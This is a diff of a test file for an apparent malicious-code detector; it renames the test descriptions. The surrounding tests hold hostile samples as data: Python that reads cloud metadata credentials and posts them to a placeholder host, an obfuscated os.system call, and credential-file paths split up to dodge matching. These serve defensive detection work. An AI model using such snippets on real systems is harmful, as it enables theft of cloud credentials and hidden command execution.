@@ -55,12 +55,12 @@ const filesOf: Readonly<Record<string, readonly string[]>> = {
 const cloud = ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/']
 
 describe('code that reads a store of credentials and sends it', () => {
-  it('is tested with all stores', () => {
+  it('is tested with every known store of credentials', () => {
     const products = secretStores.map(({ product }) => product)
     expect([...Object.keys(filesOf), 'the cloud provider'].toSorted()).toEqual(products.toSorted())
   })
 
-  it.each(Object.values(filesOf).flat())('is found: %s', (path) => {
+  it.each(Object.values(filesOf).flat())('is found for the file %s', (path) => {
     for (const part of [0, 3, 7].map((from) => from % path.length)) {
       const pieces = [path.slice(0, part), path.slice(part, part + 5), path.slice(part + 5)].map(
         (piece) => `"${piece}"`,
@@ -78,7 +78,7 @@ describe('code that reads a store of credentials and sends it', () => {
     }
   })
 
-  it.each(cloud)('is found: %s', (address) => {
+  it.each(cloud)('is found for the cloud address %s', (address) => {
     const code = `import requests\nt = requests.get("${address}").text\nrequests.post(${host}, data=t)\n`
     expect(findRules('a.py', code)).toContain('key-file-sent')
   })
@@ -101,8 +101,8 @@ const programs = [
   'scrambled-program in a.py ⟸ import os\ngetattr(os, "sys" "tem")("id")\n',
 ]
 
-describe('code', () => {
-  it.each(toExamples(programs))('is read: $found, $program', ({ program, found: [place] }) => {
+describe('malicious code', () => {
+  it.each(toExamples(programs))('is found by the rule and path $found: $program', ({ program, found: [place] }) => {
     const [rule, path] = place!.split(' in ')
     expect(findRules(path!, program)).toContain(rule)
   })
@@ -119,7 +119,7 @@ const examples = builtInDocuments.flatMap(({ rules = [] }) =>
 )
 
 describe('code that is skipped', () => {
-  it.each(examples)('is about no rule, also with its texts respelled: %s %j', (language, code) => {
+  it.each(examples)('matches no rule, even with its strings spelled differently: %s %j', (language, code) => {
     const lost = Array.from({ length: 24 }, (_, seed) => respellLiterals(language, code, seed)).filter(
       (text) => !mayMatter(language, text) && readRules(language, text).length > 0,
     )
